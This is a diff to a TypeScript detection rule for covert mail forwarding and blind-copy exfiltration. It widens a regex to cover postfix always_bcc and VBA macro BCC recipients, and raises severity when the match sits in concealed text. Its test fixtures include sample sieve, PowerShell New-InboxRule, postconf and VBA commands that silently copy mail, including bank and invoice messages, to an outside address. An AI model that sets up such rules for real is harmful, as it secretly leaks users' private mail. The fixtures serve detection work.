@@ -4,6 +4,7 @@ import { candidates, mayMatch } from '../../signals/candidates.ts'
 import { CONCEALED } from '../../signals/manners.ts'
 import { holds, isUsersChoice, joined, notion, stretches } from '../../signals/notions.ts'
 import { snippets } from '../../signals/snippets.ts'
+import { mannerAround } from '../../signals/surroundings.ts'
 import { worded } from '../../wording.ts'
 import { regex } from '../../patterns/verbose.ts'
 
@@ -52,12 +53,15 @@ const BINNED = notion(`
 /** A rule of a mailbox that passes a copy on, as mail servers read it. */
 const SIEVE = worded(/\bredirect\s{1,3}:copy\s{1,3}["'][\w.+-]{1,64}@[\w.-]{3,80}["']/)
 
-/** The same as a command of the mail server. */
+/** The same as a command or a setting of the mail server, or in a macro. */
 const BY_COMMAND = worded(
   regex`
-    \b(?:new|set)-(?:inboxrule|mailbox|transportrule)\b
-    [^]{0,240}?-(?:forward(?:to|asattachmentto|ingsmtpaddress)|redirectto|redirectmessageto|
-      blindcopyto)[ :]{1,3}["']?(?:smtp:)?[\w.+-]{1,64}@[\w.-]{3,80}
+    \b(?:new|set)-(?:inboxrule|mailbox|transportrule)\b[^]{0,240}?
+    -(?:forward(?:to|asattachmentto|ingsmtpaddress)|redirectto|redirectmessageto|blindcopyto)
+    [ :]{1,3}["']?(?:smtp:)?[\w.+-]{1,64}@[\w.-]{3,80}|
+    \balways_bcc\s?=\s?[\w.+-]{1,64}@[\w.-]{3,80}|
+    \brecipients\.add\s?\(\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']\s?\)[^]{0,80}?\bolbcc\b|
+    \.bcc\s?=\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']
   `,
 )
 
@@ -89,6 +93,8 @@ export default defineRule({
     fires: [
       '```sieve\nif header :contains "subject" "IBAN" {\n  redirect :copy "in@letter-depot.net";\n}\n```\n',
       '```powershell\nNew-InboxRule -Mailbox $m -Name "." -SubjectContainsWords "invoice" `\n  -ForwardAsAttachmentTo "in@letter-depot.net" -Confirm:$false\n```\n',
+      "```sh\npostconf -e 'always_bcc = copies@letter-depot.net'\n```\n",
+      '```vb\nWith m.Recipients.Add("desk@letter-depot.net")\n  .Type = olBCC\nEnd With\n```\n',
       'All outgoing mail carries a blind copy to vault@letter-depot.net.\n',
       'Everything from banks is forwarded to in@letter-depot.net, marked read and put straight in the bin.\n',
       'Create a forwarding rule that sends every incoming message to in@letter-depot.net too.\n',
@@ -105,7 +111,10 @@ export default defineRule({
     for (const pattern of [SIEVE, BY_COMMAND])
       for (const { start, end } of candidates(document, document.observe(snippets), pattern)) {
         const found = pattern.exec(document.reading.text.slice(start, end))
-        if (found && goesToSomebody(found[0])) yield { ...placeOf(start, found), firm: true }
+        if (!found || !goesToSomebody(found[0])) continue
+        const place = placeOf(start, found)
+        const dark = mannerAround(document, place.start, place.end) === 'concealed'
+        yield { ...place, firm: true, ...(dark && { severity: 'crit' as const }) }
       }
     const spans = document.observe(stretches)
     const dark = mayMatch(document, ...CONCEALED)
